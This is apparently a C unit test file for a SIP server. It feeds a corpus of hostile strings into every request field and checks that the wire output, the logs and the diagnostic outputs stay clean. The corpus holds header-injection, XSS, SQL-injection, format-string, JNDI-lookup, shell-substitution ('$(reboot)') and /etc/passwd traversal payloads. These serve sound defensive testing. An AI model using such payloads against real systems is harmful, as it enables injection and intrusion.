/* SPDX-License-Identifier: Apache-2.0
 * Hostile strings in every field that a peer fills, and each place where they come out
 * again: the wire, the log as text and as JSON, lists of bindings, why, explain, figures.
 */
#include <jansson.h>

#include "api/binding_text.h"
#include "unit/node/digest_support.h"

/* The domain is open and the peer trusted, so that everything gets as far as it can. */
static const char conf[] = "domain example.com { open }\n"
			   "domain asks.test\n"
			   "user alice { password secret }\n"
			   "trust 192.0.2.2\n"
			   "host next.test 192.0.2.77\n";

static const struct hostile {
	const char *bytes;
	size_t len;
} corpus[] = {
#define ROW(literal)                                                                     \
	{                                                                                \
		literal, sizeof(literal) - 1                                             \
	}
	ROW("\r\nInjected: yes"),
	ROW("\r\n\r\nINVITE sip:bob@example.com SIP/2.0\r\n"),
	ROW("\n"),
	ROW("\r"),
	ROW("\0"),
	ROW("a\0b"),
	ROW("%00"),
	ROW("%0d%0aInjected:%20yes"),
	ROW("%00%00%00"),
	ROW("%"),
	ROW("%zz"),
	ROW("\""),
	ROW("\\\""),
	ROW("\\"),
	ROW("\\\r\n"),
	ROW("\"><script>alert(1)</script>"),
	ROW("<script>alert(1)</script>"),
	ROW("'; DROP TABLE users; --"),
	ROW("' OR '1'='1"),
	ROW("%s%s%s%n%x"),
	ROW("%n"),
	ROW("${jndi:ldap://x.test/a}"),
	ROW("$(reboot)`reboot`"),
	ROW("../../../../etc/passwd"),
	ROW("\x1b[31m\x1b]0;owned\x07"),
	ROW("\x7f\x80\x9b"),
	ROW("\xff\xfe\xfd"),
	ROW("\xc0\xaf"),
	ROW("\xed\xa0\x80"),
	ROW("\xf0\x9f\x92\xa9"),
	ROW("\xe2\x80\xae\xd8\xa7"),
	ROW("J\xc3\xbcrgen"),
	ROW("{\"a\":\"b\"},"),
	ROW("]]>"),
	ROW("\x1f\x04"
	    "0\n"),
	ROW(",,,;;;===???"),
	ROW("@@@@"),
	ROW("<sip:a@b>,<sip:c@d>"),
	ROW("a b\tc"),
	ROW("-1"),
	ROW("99999999999999999999999999"),
	ROW(""),
#undef ROW
};

/* Where a string goes: its field begins and ends so. */
static const struct place {
	const char *name, *method;
	const char *uri, *from, *to, *call_id, *lines; /* "\1" is where */
} places[] = {
	{ .name = "user of the Request-URI", .uri = "sip:\1@example.com" },
	{ .name = "host of the Request-URI", .uri = "sip:a@\1" },
	{ .name = "parameter of the Request-URI", .uri = "sip:a@example.com;x=\1" },
	{ .name = "tel", .uri = "tel:\1" },
	{ .name = "abroad", .uri = "sip:\1@next.test" },
	{ .name = "display name, quoted", .from = "\"\1\" <sip:a@example.com>" },
	{ .name = "display name, plain", .from = "\1 <sip:a@example.com>" },
	{ .name = "user of From", .from = "<sip:\1@example.com>" },
	{ .name = "user of To", .to = "<sip:\1@example.com>" },
	{ .name = "tag", .from = "<sip:a@example.com>;tag=\1" },
	{ .name = "Call-ID", .call_id = "x\1y" },
	{ .name = "method", .method = "X\1" },
	{ .name = "Subject", .lines = "Subject: \1\r\n" },
	{ .name = "User-Agent", .lines = "User-Agent: \1\r\n" },
	{ .name = "an unknown header", .lines = "X-\1: y\r\nX-Value: \1\r\n" },
	{ .name = "Via", .lines = "Via: SIP/2.0/UDP a.test;branch=z9hG4bK\1\r\n" },
	{ .name = "Route", .lines = "Route: <sip:\1;lr>\r\n" },
	{ .name = "a mark", .lines = "Route: <sip:192.0.2.1;lr;b=\1>\r\n" },
	{ .name = "Require", .lines = "Proxy-Require: \1\r\n" },
	{ .name = "P-Asserted-Identity", .lines = "P-Asserted-Identity: <sip:\1@x>\r\n" },
	{ .name = "Event", .method = "SUBSCRIBE", .lines = "Event: \1\r\n" },
	{ .name = "user of a Contact",
	  .method = "REGISTER",
	  .lines = "Contact: <sip:\1@192.0.2.2>\r\n" },
	{ .name = "parameter of a Contact",
	  .method = "REGISTER",
	  .lines = "Contact: <sip:c@192.0.2.2>;x=\"\1\";+sip.instance=\"<\1>\"\r\n" },
	{ .name = "Path",
	  .method = "REGISTER",
	  .lines = "Path: <sip:\1@192.0.2.9;lr>\r\n" },
	{ .name = "the phone's User-Agent",
	  .method = "REGISTER",
	  .lines = "User-Agent: \1\r\nContact: <sip:c@192.0.2.2>\r\n" },
	{ .name = "name of a registration",
	  .method = "REGISTER",
	  .from = "<sip:\1@example.com>",
	  .to = "<sip:\1@example.com>" },
	{ .name = "user of credentials",
	  .method = "REGISTER",
	  .uri = "sip:asks.test",
	  .to = "<sip:alice@asks.test>",
	  .lines = "Authorization: Digest username=\"\1\", realm=\"asks.test\", "
		   "nonce=\"\1\", uri=\"sip:asks.test\", response=\"\1\", qop=auth, "
		   "nc=00000001, cnonce=\"\1\"\r\n" },
	{ .name = "realm of credentials",
	  .method = "REGISTER",
	  .uri = "sip:asks.test",
	  .to = "<sip:alice@asks.test>",
	  .lines = "Authorization: Digest username=\"a\", realm=\"\1\"\r\n" },
};

static void put(struct bel_writer *writer, const char *pattern, const struct hostile *bad)
{
	for (; *pattern; pattern++) {
		if (*pattern == '\1')
			bel_write_str(writer, (bel_str){ bad->bytes, bad->len });
		else
			bel_write_char(writer, *pattern);
	}
}

static void write_request(struct bel_writer *writer, const struct place *place,
			  const struct hostile *bad, unsigned number)
{
	const char *method = or_else(place->method, "INVITE");
	bool is_register = strcmp(method, "REGISTER") == 0;

	put(writer, method, bad);
	bel_write_char(writer, ' ');
	put(writer,
	    or_else(place->uri, is_register ? "sip:example.com" : "sip:bob@example.com"),
	    bad);
	bel_write_format(writer,
			 " SIP/2.0\r\nVia: SIP/2.0/UDP 192.0.2.2;branch=z9hG4bK%u\r\n",
			 number);
	bel_write_lit(writer, "From: ");
	put(writer, or_else(place->from, "<sip:a@example.com>;tag=f"), bad);
	bel_write_lit(writer, "\r\nTo: ");
	put(writer, or_else(place->to, "<sip:bob@example.com>"), bad);
	bel_write_lit(writer, "\r\nCall-ID: ");
	put(writer, or_else(place->call_id, "call"), bad);
	bel_write_format(writer, "%u\r\nCSeq: %u ", number, number);
	put(writer, method, bad);
	bel_write_lit(writer, "\r\nMax-Forwards: 70\r\n");
	put(writer, or_else(place->lines, ""), bad);
	bel_write_lit(writer, "Content-Length: 0\r\n\r\n");
	assert_false(writer->is_full);
}

/* ---- the sinks ---- */

static void assert_is_clean(const char *what, bel_str text)
{
	for (size_t i = 0; i < text.len; i++) {
		unsigned char c = (unsigned char)text.ptr[i];
		if ((c < ' ' && c != '\n') || c == 0x7f)
			fail_msg("%s holds byte %u: %.*s", what, c, BEL_STR_ARG(text));
	}
}

/* Each line an object, of which there are so many. */
static void assert_is_json(const char *what, bel_str text)
{
	assert_is_clean(what, text);
	while (text.len) {
		size_t end = bel_str_find(text, '\n');
		json_error_t error;
		json_t *json = json_loadb(text.ptr, end, JSON_ALLOW_NUL, &error);
		if (!json)
			fail_msg("%s: %s: %.*s", what, error.text, (int)end, text.ptr);
		json_decref(json);
		text = bel_str_slice(text, end + 1, text.len);
	}
}

/* What the server said: a message that parses, in which nothing was injected. */
static void check_wire(const char *what, const struct sent *sent)
{
	struct bel_sip_msg *msg = calloc(1, sizeof *msg);
	struct bel_sip_refusal why;
	struct bel_arena arena;

	bel_arena_init(&arena, NULL, 0, 1 << 18);
	if (bel_sip_parse(msg, &arena, (bel_str){ sent->bytes, sent->len }, &why))
		fail_msg("%s: %s in what was sent:\n%s", what, why.text, sent->bytes);
	assert_int_equal(bel_sip_value_named(msg, BEL_STR("Injected")).len, 0);
	bel_arena_fini(&arena);
	free(msg);
}

struct walk {
	struct bel_writer text, json;
	uint64_t now_ms;
	unsigned count;
};

static unsigned take_tabs(char *text, size_t len)
{
	unsigned count = 0;

	for (size_t i = 0; i < len; i++) {
		if (text[i] != '\t')
			continue;
		text[i] = ' ';
		count++;
	}
	return count;
}

static bool on_aor(void *user, bel_str aor, const struct bel_binding *bindings,
		   unsigned count)
{
	struct walk *walk = user;

	for (unsigned i = 0; i < count; i++) {
		walk->text.len = walk->json.len = 0;
		bel_binding_write(&walk->text, aor, &bindings[i], walk->now_ms, false);
		bel_binding_write(&walk->json, aor, &bindings[i], walk->now_ms, true);
		bel_str text = bel_writer_str(&walk->text);
		/* A tab parts the columns, and only that. */
		assert_int_equal(take_tabs(walk->text.buf, walk->text.len), 5);
		assert_is_clean("a binding", text);
		assert_int_equal(bel_str_find(text, '\n'), text.len - 1);
		assert_is_json("a binding", bel_writer_str(&walk->json));
		walk->count++;
	}
	return true;
}

static void check_bindings(struct stage *stage)
{
	static char text[BEL_BINDING_TEXT_BYTES], json[BEL_BINDING_TEXT_BYTES];
	struct walk walk = { .text = bel_writer_init(text, sizeof text),
			     .json = bel_writer_init(json, sizeof json),
			     .now_ms = bel_loop_wall_ms(stage->loop) };

	assert_int_equal(bel_location_each(bel_node_location(stage->node), walk.now_ms,
					   on_aor, &walk),
			 BEL_OK);
}

static void check_why(struct stage *stage)
{
	static char buf[1 << 16];

	for (int is_json = 0; is_json <= 1; is_json++) {
		struct bel_writer writer = bel_writer_init(buf, sizeof buf);
		if (bel_node_why(stage->node, BEL_STR("last"), &writer, is_json))
			return;
		assert_false(writer.is_full);
		if (is_json)
			assert_is_json("why", bel_writer_str(&writer));
		else
			assert_is_clean("why", bel_writer_str(&writer));
	}
}

static void check_explain(struct stage *stage, const struct hostile *bad)
{
	static char buf[1 << 16];
	char target[512];
	struct bel_writer writer = bel_writer_init(target, sizeof target);
	struct bel_facts facts = { .method = BEL_SIP_INVITE,
				   .method_text = BEL_STR("INVITE"),
				   .max_forwards = 70,
				   .source = at(2, 5060),
				   .identity = BEL_IDENTITY_NONE };
	struct bel_arena arena;
	struct bel_plan plan;

	put(&writer, "sip:\1@example.com", bad);
	if (bel_uri_parse(&facts.target, bel_writer_str(&writer)))
		return;
	facts.from = facts.to = facts.target;
	bel_arena_init(&arena, NULL, 0, 1 << 16);
	assert_int_equal(bel_node_explain(stage->node, &plan, &arena, &facts), BEL_OK);
	writer = bel_writer_init(buf, sizeof buf);
	bel_plan_write(&writer, &plan);
	assert_is_clean("explain", bel_writer_str(&writer));
	writer.len = 0;
	bel_plan_write_json(&writer, &plan);
	assert_is_json("explain", bel_writer_str(&writer));
	writer.len = 0;
	bel_plan_write_mermaid(&writer, &plan);
	assert_is_clean("explain", bel_writer_str(&writer));
	bel_arena_fini(&arena);
}

static void check_sinks(struct stage *stage, const struct hostile *bad, const char *what)
{
	if (stage->answer.count)
		check_wire(what, &stage->answer);
	if (stage->other.count)
		check_wire(what, &stage->other);
	check_why(stage);
	check_explain(stage, bad);
}

static void every_string_in_every_field(void **state)
{
	(void)state;
	for (size_t i = 0; i < BEL_COUNT_OF(places); i++) {
		struct stage *stage = open_stage(conf);
		unsigned number = 1;
		for (size_t k = 0; k < BEL_COUNT_OF(corpus); k++) {
			char text[8192];
			struct bel_writer writer = bel_writer_init(text, sizeof text);
			write_request(&writer, &places[i], &corpus[k], number++);
			bel_str exact = bel_test_exact(bel_writer_str(&writer));
			throw_bytes(stage, exact);
			free((void *)(uintptr_t)exact.ptr);
			check_sinks(stage, &corpus[k], places[i].name);
		}
		check_bindings(stage);
		assert_is_clean("the log", bel_writer_str(&stage->records_writer));
		/* and it is still there */
		throw_bytes(stage,
			    BEL_STR("OPTIONS sip:example.com SIP/2.0\r\n"
				    "Via: SIP/2.0/UDP 192.0.2.2;branch=z9hG4bKlast\r\n"
				    "From: <sip:a@example.com>;tag=1\r\n"
				    "To: <sip:example.com>\r\nCall-ID: last\r\n"
				    "CSeq: 1 OPTIONS\r\n\r\n"));
		assert_int_equal(status_of(stage), 200);
		close_stage(stage);
	}
}

/* Registered under hostile names, an address is found by that name and by no other. */
static void hostile_names_register_as_themselves(void **state)
{
	static const char *const names[] = {
		"%00", "a%00b", "a%0d%0ab", "%22", "%5c", "%27%3b--", "%25s", "%ff%fe",
	};
	struct stage *stage = open_stage(conf);

	(void)state;
	for (size_t i = 0; i < BEL_COUNT_OF(names); i++) {
		char lines[256], to[256];
		snprintf(to, sizeof to, "sip:%s@example.com", names[i]);
		snprintf(lines, sizeof lines, "X: y\r\n");
		const struct ask ask = {
			.from = to, .to = to, .call_id = names[i], .cseq = 1 + (unsigned)i
		};
		send_ask(stage, &ask, BEL_STR_NONE);
		assert_int_equal(status_of(stage), 200);
		assert_int_equal(counter_value(stage, "addresses"), i + 1);
	}
	const struct ask call = { .method = "INVITE",
				  .uri = "sip:a@example.com",
				  .call_id = "none" };
	send_ask(stage, &call, BEL_STR_NONE);
	assert_int_equal(status_of(stage), 480);
	check_bindings(stage);
	close_stage(stage);
}

static void the_longest_of_everything(void **state)
{
	static char text[60000];

	(void)state;
	for (size_t i = 0; i < BEL_COUNT_OF(places); i++) {
		struct stage *stage = open_stage(conf);
		static const size_t sizes[] = { 255, 256, 1000, 8100, 9000 };
		for (size_t k = 0; k < BEL_COUNT_OF(sizes); k++) {
			static char bytes[9000];
			struct hostile bad = { bytes, sizes[k] };
			struct bel_writer writer = bel_writer_init(text, sizeof text);
			memset(bytes, 'x', sizeof bytes);
			write_request(&writer, &places[i], &bad, (unsigned)k + 1);
			throw_bytes(stage, bel_writer_str(&writer));
			check_why(stage);
		}
		check_bindings(stage);
		assert_is_clean("the log", bel_writer_str(&stage->records_writer));
		close_stage(stage);
	}
}

/* ---- the real logger ---- */

static bel_str log_all(bool is_json, char *buf, size_t size)
{
	FILE *file = tmpfile();
	struct bel_logger *logger;

	assert_non_null(file);
	assert_int_equal(bel_logger_open(&logger, fileno(file), is_json, BEL_LOG_DEBUG),
			 BEL_OK);
	for (size_t i = 0; i < BEL_COUNT_OF(corpus); i++)
		BEL_LOG(bel_logger_log(logger), BEL_LOG_INFO, "wrong credentials",
			{ "user", { corpus[i].bytes, corpus[i].len } },
			{ "source", BEL_STR("192.0.2.2") });
	bel_logger_close(logger);
	rewind(file);
	size_t len = fread(buf, 1, size, file);
	fclose(file);
	return (bel_str){ buf, len };
}

static void a_record_is_one_line_of_text(void **state)
{
	static char buf[1 << 17];
	bel_str text = log_all(false, buf, sizeof buf);
	unsigned lines = 0;

	(void)state;
	assert_is_clean("the log", text);
	for (size_t i = 0; i < text.len; i++)
		lines += text.ptr[i] == '\n';
	assert_int_equal(lines, BEL_COUNT_OF(corpus));
}

static void a_record_is_one_object_of_json(void **state)
{
	static char buf[1 << 17];

	(void)state;
	assert_is_json("the log", log_all(true, buf, sizeof buf));
}

static void a_record_that_is_too_long_is_still_json(void **state)
{
	static char huge[5000], buf[1 << 14];
	FILE *file = tmpfile();
	struct bel_logger *logger;

	(void)state;
	memset(huge, '"', sizeof huge);
	assert_non_null(file);
	assert_int_equal(bel_logger_open(&logger, fileno(file), true, BEL_LOG_DEBUG),
			 BEL_OK);
	BEL_LOG(bel_logger_log(logger), BEL_LOG_INFO, "text",
		{ "user", { huge, sizeof huge } });
	bel_logger_close(logger);
	rewind(file);
	assert_is_json("the log", (bel_str){ buf, fread(buf, 1, sizeof buf, file) });
	fclose(file);
}

static void a_flood_of_records_is_held_back(void **state)
{
	static char buf[1 << 17];
	FILE *file = tmpfile();
	struct bel_logger *logger;
	unsigned lines = 0;

	(void)state;
	assert_non_null(file);
	assert_int_equal(bel_logger_open(&logger, fileno(file), false, BEL_LOG_DEBUG),
			 BEL_OK);
	for (int i = 0; i < 5000; i++)
		BEL_LOG(bel_logger_log(logger), BEL_LOG_INFO, "flood",
			{ "n", BEL_STR("1") });
	bel_logger_close(logger);
	rewind(file);
	size_t len = fread(buf, 1, sizeof buf, file);
	for (size_t i = 0; i < len; i++)
		lines += buf[i] == '\n';
	/* the second may have turned meanwhile */
	assert_in_range(lines, 100, 300);
	fclose(file);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(every_string_in_every_field),
		cmocka_unit_test(hostile_names_register_as_themselves),
		cmocka_unit_test(the_longest_of_everything),
		cmocka_unit_test(a_record_is_one_line_of_text),
		cmocka_unit_test(a_record_is_one_object_of_json),
		cmocka_unit_test(a_record_that_is_too_long_is_still_json),
		cmocka_unit_test(a_flood_of_records_is_held_back),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
